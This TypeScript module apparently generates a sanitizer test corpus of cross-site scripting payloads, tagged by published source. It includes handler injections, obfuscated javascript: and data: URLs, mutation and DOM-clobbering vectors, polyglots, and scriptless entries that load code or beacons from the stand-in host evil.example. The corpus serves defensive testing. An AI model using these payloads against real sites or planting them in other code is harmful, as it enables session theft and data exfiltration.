/**
 * Markup that tries to run `hit(number)` or to reach evil.example, by kind. The kinds are those of the published lists
 * that each one names; the entries are written for this project, some of them made from a list of places and a list of
 * disguises. `§` stands for a number that tells which one it was.
 */
export interface Payload {
  readonly kind: string;
  /** The published list that describes this kind. */
  readonly source: string;
  readonly template: string;
}

interface Kind {
  readonly kind: string;
  readonly source: string;
  readonly entries: readonly string[];
}

const owasp = "https://cheatsheetseries.owasp.org/cheatsheets/XSS_Filter_Evasion_Cheat_Sheet.html";
const portSwigger = "https://portswigger.net/web-security/cross-site-scripting/cheat-sheet";
const html5sec = "https://html5sec.org/";
const clobbering = "https://cheatsheetseries.owasp.org/cheatsheets/DOM_Clobbering_Prevention_Cheat_Sheet.html";
const mutation = "https://github.com/cure53/DOMPurify/wiki/Attack-classification";

/** What a browser does by itself as soon as it sees the element. */
const byThemselves = [
  "<img src=x onerror=hit(§)>",
  "<image src=x onerror=hit(§)>",
  "<svg onload=hit(§)></svg>",
  "<svg><g onload=hit(§)></g></svg>",
  "<body onload=hit(§)>",
  "<body onpageshow=hit(§)>",
  "<iframe onload=hit(§)></iframe>",
  "<video><source onerror=hit(§)></video>",
  "<video src=x onerror=hit(§)></video>",
  "<video src=x onloadstart=hit(§)></video>",
  "<audio src=x onerror=hit(§)></audio>",
  "<audio src=x onloadstart=hit(§)></audio>",
  "<object data=x onerror=hit(§)></object>",
  "<embed src=x onload=hit(§)>",
  "<style onload=hit(§)>x{}</style>",
  "<style onerror=hit(§)>@import 'x'</style>",
  "<link rel=stylesheet href=x onerror=hit(§)>",
  "<link rel=stylesheet href='data:text/css,' onload=hit(§)>",
  "<script src=x onerror=hit(§)></script>",
  "<input autofocus onfocus=hit(§)>",
  "<input type=image src=x onerror=hit(§)>",
  "<textarea autofocus onfocus=hit(§)></textarea>",
  "<select autofocus onfocus=hit(§)></select>",
  "<button autofocus onfocus=hit(§)>x</button>",
  "<a href=# autofocus onfocus=hit(§)>x</a>",
  "<div tabindex=1 autofocus onfocus=hit(§)>x</div>",
  "<p contenteditable autofocus onfocusin=hit(§)>x</p>",
  "<details open ontoggle=hit(§)>x</details>",
  "<marquee onstart=hit(§)>x</marquee>",
  "<marquee loop=1 width=0 onfinish=hit(§)>x</marquee>",
  "<style>@keyframes k{from{left:0}}</style><b style='animation:k 1ms' onanimationstart=hit(§)>x</b>",
  "<style>@keyframes k{from{left:0}}</style><b style='animation:k 1ms' onanimationend=hit(§)>x</b>",
  "<svg><animate attributeName=x dur=1ms onbegin=hit(§) /></svg>",
  "<svg><animate attributeName=x dur=1ms onend=hit(§) /></svg>",
  "<svg><set attributeName=x to=1 dur=1ms onbegin=hit(§) /></svg>",
  "<svg><animateTransform attributeName=transform dur=1ms onbegin=hit(§) /></svg>",
  "<svg><animateMotion dur=1ms onbegin=hit(§) /></svg>",
  "<svg><image href=x onerror=hit(§) /></svg>",
  "<b style='content-visibility:auto;display:block' oncontentvisibilityautostatechange=hit(§)>x</b>",
  "<picture><source srcset=x><img onerror=hit(§)></picture>",
];

/** Handlers that wait for a person: any of them is one too many. */
const handlers =
  "click dblclick mouseover mouseenter mousemove mousedown mouseup pointerdown pointerover pointermove pointerup wheel " +
  "keydown keypress keyup copy cut paste drag dragstart drop contextmenu auxclick focus blur input change submit reset " +
  "select toggle beforetoggle scroll scrollend touchstart selectstart transitionend beforeinput invalid search";

const scripts = [
  "<script>hit(§)</script>",
  "<SCRIPT>hit(§)</SCRIPT>",
  "<sCrIpT >hit(§)</sCrIpT >",
  "<script/x>hit(§)</script/x>",
  "<script\n>hit(§)</script\n>",
  "<script\f>hit(§)</script>",
  "<script type=module>hit(§)</script>",
  "<script type='text/javascript'>hit(§)</script>",
  "<script language=javascript>hit(§)</script>",
  "<script async defer>hit(§)</script>",
  "<script>/*<!--*/hit(§)</script>",
  "<script><!--\nhit(§)\n--></script>",
  "<<script>hit(§);//<</script>",
  "<script>hit(§)",
  "<scr<script>ipt>hit(§)</script>",
  '"><script>hit(§)</script>',
  "'><script>hit(§)</script>",
  "</title><script>hit(§)</script>",
  "</textarea><script>hit(§)</script>",
  "</style><script>hit(§)</script>",
  "--><script>hit(§)</script>",
  "]]><script>hit(§)</script>",
  "</code></pre><script>hit(§)</script>",
  "<svg><script>hit(§)</script></svg>",
  "<svg><script>hit&#40;§&#41;</script></svg>",
  "<svg><script><![CDATA[hit(§)]]></script></svg>",
  "<svg><script href='data:text/javascript,parent.hit(§),hit(§)' /></svg>",
  "<math><script>hit(§)</script></math>",
  "<script src='data:text/javascript,hit(§)'></script>",
  "<script src='https://evil.example/§.js'></script>",
  "<script src=//evil.example/§.js></script>",
  "<script>\\u0068it(§)</script>",
  "<script>window['h'+'it'](§)</script>",
  "<script>eval('hit(§)')</script>",
  "<script>Function('hit(§)')()</script>",
  "<script>setTimeout('hit(§)')</script>",
  "<script>import('data:text/javascript,hit(§)')</script>",
  "<noembed><script>hit(§)</script></noembed><script>hit(§)</script>",
];

/** An address that runs. */
const runs = "javascript:parent.hit(§)";
const addressPlaces = [
  '<a href="#A">x</a>',
  '<svg><a href="#A"><text y=9>x</text></a></svg>',
  '<svg><a xlink:href="#A"><text y=9>x</text></a></svg>',
  '<math><mi href="#A">x</mi></math>',
  '<map><area href="#A" shape=default></map>',
  '<iframe src="#A"></iframe>',
  '<embed src="#A">',
  '<object data="#A"></object>',
  '<form action="#A"><input type=submit value=x></form>',
  '<form><button formaction="#A">x</button></form>',
  '<form><input type=submit formaction="#A"></form>',
  '<form><input type=image src=x formaction="#A"></form>',
  '<base href="#A">',
  '<link rel=stylesheet href="#A">',
  '<meta http-equiv=refresh content="0;url=#A">',
  '<svg><use href="#A" /></svg>',
  '<svg><a><animate attributeName=href values="#A" /><text y=9>x</text></a></svg>',
  '<svg><a><set attributeName=href to="#A" /><text y=9>x</text></a></svg>',
  '<img src="#A">',
  '<img srcset="#A 1x">',
  '<video poster="#A"></video>',
  '<table background="#A"><tr><td>x</td></tr></table>',
  '<q cite="#A">x</q>',
  '<a href=# ping="#A">x</a>',
];

/** Ways to hide the scheme of an address. */
export const addresses = [
  runs,
  "JaVaScRiPt:parent.hit(§)",
  " javascript:parent.hit(§)",
  "\tjavascript:parent.hit(§)",
  "java\tscript:parent.hit(§)",
  "java\nscript:parent.hit(§)",
  "java&#9;script:parent.hit(§)",
  "java&NewLine;script:parent.hit(§)",
  "javascript&colon;parent.hit(§)",
  "javascript&#58;parent.hit(§)",
  "javascript&#x3a;parent.hit(§)",
  "&#106;avascript:parent.hit(§)",
  "&#x6A;avascript:parent.hit(§)",
  "&#0000106avascript:parent.hit(§)",
  "\u0001javascript:parent.hit(§)",
  "&#1;javascript:parent.hit(§)",
  "javascript://x%0aparent.hit(§)",
  "javascript:/**/parent.hit(§)//",
  "javascript:%70arent.hit(§)",
  "java\\script:parent.hit(§)",
  "\\javascript:parent.hit(§)",
  "javascript\u200b:parent.hit(§)",
  "vbscript:hit(§)",
  "livescript:hit(§)",
  "data:text/html,<script>parent.hit(§)</script>",
  "data:text/html;base64,PHNjcmlwdD5wYXJlbnQuaGl0KDApPC9zY3JpcHQ+",
  "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='parent.hit(§)'/>",
  "blob:https://evil.example/§",
  "view-source:javascript:hit(§)",
  "jar:https://evil.example/§!/x",
  "file:///etc/passwd",
  "command:workbench.action.terminal.new?§",
  "vscode://evil.example/§",
  "vscode-webview-resource://x/etc/passwd",
  "http://evil.example/§",
  "//evil.example/§",
  "\\\\evil.example\\§",
  "/\\evil.example/§",
  "https:evil.example/§",
];

const disguises = [
  "<img/src=x/onerror=hit(§)>",
  "<img src=x\tonerror\n=\fhit(§)>",
  '<img src=x onerror ="hit(§)">',
  "<img src=x onerror='hit(§)'>",
  '<img src=x onerror="&#104;it(§)">',
  '<img src=x onerror="&#x68;&#x69;&#x74;(§)">',
  '<img src=x onerror="hit&lpar;§&rpar;">',
  "<img src=x onerror=hit`§`>",
  "<img src=x OnErRoR=hit(§)>",
  "<img src=x x='>' onerror=hit(§)>",
  '<img """><img src=x onerror=hit(§)>',
  '<img src="x` `" onerror=hit(§)>',
  "<x/><img src=x onerror=hit(§)>",
  "<img src=x onerror=hit(§) <x>",
  "<img src=x onerror=hit(§)//",
  "<svg/onload=hit(§)>",
  "<svg onload=hit(§)//",
  "<svg\u00a0onload=hit(§)><svg onload=hit(§)>",
  "<?xml version='1.0'?><svg onload=hit(§)></svg>",
  "<!DOCTYPE x><img src=x onerror=hit(§)>",
  "<!--><img src=x onerror=hit(§)>-->",
  "<!--[if true]><img src=x onerror=hit(§)><![endif]--><img src=x onerror=hit(§)>",
  "<![CDATA[<img src=x onerror=hit(§)>]]><img src=x onerror=hit(§)>",
  "<%<img src=x onerror=hit(§)>%>",
  "\u0000<img\u0000 src=x onerror=hit(§)><img src=x onerror=hit(§)>",
  "+ADw-script+AD4-hit(§)+ADw-/script+AD4-<img src=x onerror=hit(§)>",
  "\uff1cscript\uff1ehit(§)\uff1c/script\uff1e<img src=x onerror=hit(§)>",
];

const mutations = [
  '<noscript><p title="</noscript><img src=x onerror=hit(§)>"></p></noscript>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=hit(§)&gt;">',
  '<svg></p><style><a id="</style><img src=x onerror=hit(§)>">',
  "<svg><style><img src=x onerror=hit(§)></style></svg>",
  "<math><style><img src=x onerror=hit(§)></style></math>",
  "<svg><title><img src=x onerror=hit(§)></title></svg>",
  "<svg><desc><img src=x onerror=hit(§)></desc></svg>",
  "<svg><foreignObject><img src=x onerror=hit(§)></foreignObject></svg>",
  "<math><annotation-xml encoding='text/html'><img src=x onerror=hit(§)></annotation-xml></math>",
  "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=hit(§)>",
  "<table><a href=x><td><img src=x onerror=hit(§)></td></a></table>",
  "<select><option><style></option></select><img src=x onerror=hit(§)></style>",
  '<xmp><p title="</xmp><img src=x onerror=hit(§)>">',
  '<iframe><p title="</iframe><img src=x onerror=hit(§)>">',
  '<noframes><p title="</noframes><img src=x onerror=hit(§)>">',
  '<title><p title="</title><img src=x onerror=hit(§)>">',
  '<textarea><p title="</textarea><img src=x onerror=hit(§)>">',
  '<template><p title="</template><img src=x onerror=hit(§)>"></template><img src=x onerror=hit(§)>',
  "<template shadowrootmode=open><img src=x onerror=hit(§)></template>",
  "<div><template shadowrootmode=open><script>hit(§)</script></template></div>",
  "<plaintext><img src=x onerror=hit(§)>",
  '<a title="`<img src=x onerror=hit(§)>`"><img src=x onerror=hit(§)></a>',
  "<b is=x-x onclick=hit(§) autofocus tabindex=0 onfocus=hit(§)>x</b>",
  '<svg><svg><b><style><a title="</style><img src=x onerror=hit(§)>"></a></style></b></svg></svg>',
  '<ruby><rtc><svg><style><p id="</style><img src=x onerror=hit(§)>">',
];

/** No script is needed for these: they fetch, navigate, or take over what the page looks like. */
const scriptless = [
  "<img src=https://evil.example/§>",
  "<img src='https://evil.example/§?",
  "<img srcset='https://evil.example/§ 1x'>",
  "<picture><source srcset=https://evil.example/§><img></picture>",
  "<svg><image href=https://evil.example/§ width=9 height=9 /></svg>",
  "<svg><feImage href=https://evil.example/§ /></svg>",
  "<svg><use href=https://evil.example/§#x /></svg>",
  "<svg><rect fill='url(https://evil.example/§#x)' filter='url(https://evil.example/§#y)' width=9 height=9 /></svg>",
  "<video src=https://evil.example/§ poster=https://evil.example/§ autoplay></video>",
  "<audio src=https://evil.example/§ autoplay></audio>",
  "<video><track default src=https://evil.example/§></video>",
  "<iframe src=https://evil.example/§></iframe>",
  "<iframe srcdoc='<script>parent.hit(§)</script>'></iframe>",
  "<object data=https://evil.example/§></object>",
  "<embed src=https://evil.example/§>",
  "<frameset><frame src=https://evil.example/§></frameset>",
  "<portal src=https://evil.example/§></portal>",
  "<fencedframe src=https://evil.example/§></fencedframe>",
  "<link rel=stylesheet href=https://evil.example/§>",
  "<link rel=prefetch href=https://evil.example/§>",
  "<link rel=preload as=image href=https://evil.example/§>",
  "<link rel=modulepreload href=https://evil.example/§>",
  "<link rel=dns-prefetch href=https://evil.example/§>",
  "<link rel=manifest href=https://evil.example/§>",
  "<meta http-equiv=refresh content='0;url=https://evil.example/§'>",
  "<meta http-equiv=Content-Security-Policy content=\"script-src 'unsafe-inline'\">",
  "<base href=https://evil.example/§/><img src=x>",
  "<base target=_blank>",
  "<style>@import 'https://evil.example/§';</style>",
  "<style>*{background:url(https://evil.example/§)}</style>",
  "<style>@font-face{font-family:f;src:url(https://evil.example/§)}*{font-family:f}</style>",
  "<style>body{display:none}</style>",
  "<p style='background:url(https://evil.example/§)'>x</p>",
  "<p style='background:image-set(\"https://evil.example/§\" 1x)'>x</p>",
  "<p style='list-style:url(https://evil.example/§);display:list-item'>x</p>",
  "<p style='position:fixed;inset:0;z-index:9999;background:red'>x</p>",
  "<p class=status-line style='position:fixed'>x</p>",
  "<p class='problem'>x</p><p class='toast'>x</p>",
  "<button class=button>x</button>",
  "<dialog open>x</dialog><p popover=manual id=p-§>x</p><button popovertarget=p-§>x</button>",
  "<body background=https://evil.example/§>",
  "<table background=https://evil.example/§><tr><td background=https://evil.example/§>x</table>",
  "<form action=https://evil.example/§><input name=a value=b><input type=submit></form>",
  "<a href=https://evil.example/§ download>x</a>",
  '<script type=speculationrules>{"prefetch":[{"urls":["https://evil.example/§"]}]}</script>',
  '<script type=importmap>{"imports":{"mermaid":"https://evil.example/§"}}</script>',
  "<applet code=https://evil.example/§></applet>",
  "<bgsound src=https://evil.example/§>",
];

const names =
  "app part-top part-result part-hints harness acquireVsCodeApi trustedTypes body documentElement createElement " +
  "getElementById cookie location parentNode attributes childNodes nodeName hit top parent self";

const polyglots = [
  "javascript:/*--></title></style></textarea></script></xmp><svg/onload='+/\"/+/onmouseover=1/+/[*/[]/+hit(§)//'>",
  "'\"><img src=x onerror=hit(§)><!--",
  '"><svg onload=hit(§)>',
  "'onmouseover='hit(§)' autofocus onfocus='hit(§)",
  "`><img src=x onerror=hit(§)>",
  "</script><svg onload=hit(§)>",
  "-->]]>'\"></style></title></noscript><svg onload=hit(§)>",
  "{{constructor.constructor('hit(§)')()}}<img src=x onerror=hit(§)>",
  "${hit(§)}<img src=x onerror=hit(§)>",
  "<p dangerouslySetInnerHTML=x ref=x key=x __html=x onLoad=hit(§)><img src=x onerror=hit(§)></p>",
];

const kinds: readonly Kind[] = [
  { kind: "handler without a person", source: portSwigger, entries: byThemselves },
  {
    kind: "handler with a person",
    source: portSwigger,
    entries: handlers.split(" ").map((name) => `<b on${name}=hit(§) tabindex=1 draggable=true contenteditable>x</b>`),
  },
  { kind: "script element", source: owasp, entries: scripts },
  {
    kind: "place of an address",
    source: portSwigger,
    entries: addressPlaces.flatMap((place) => [runs, "data:text/html,<script>parent.hit(§)</script>"].map(fill(place))),
  },
  { kind: "disguised address", source: owasp, entries: addresses.map(fill('<a href="#A">x</a>')) },
  { kind: "disguised markup", source: owasp, entries: disguises },
  { kind: "mutation", source: mutation, entries: mutations },
  { kind: "without script", source: html5sec, entries: scriptless },
  {
    kind: "clobbering",
    source: clobbering,
    entries: names
      .split(" ")
      .flatMap((name) => [
        `<a id=${name}></a><a id=${name} name=x href=x:§>x</a>`,
        `<form id=${name} name=${name}><input name=${name} id=x></form>`,
      ]),
  },
  { kind: "polyglot", source: owasp, entries: polyglots },
];

function fill(place: string): (address: string) => string {
  return (address) => place.replace("#A", () => address);
}

export const payloads: readonly Payload[] = kinds.flatMap(({ kind, source, entries }) =>
  [...new Set(entries)].map((template) => ({ kind, source, template })),
);

export function numbered(template: string, number: number): string {
  return template.replaceAll("§", String(number));
}
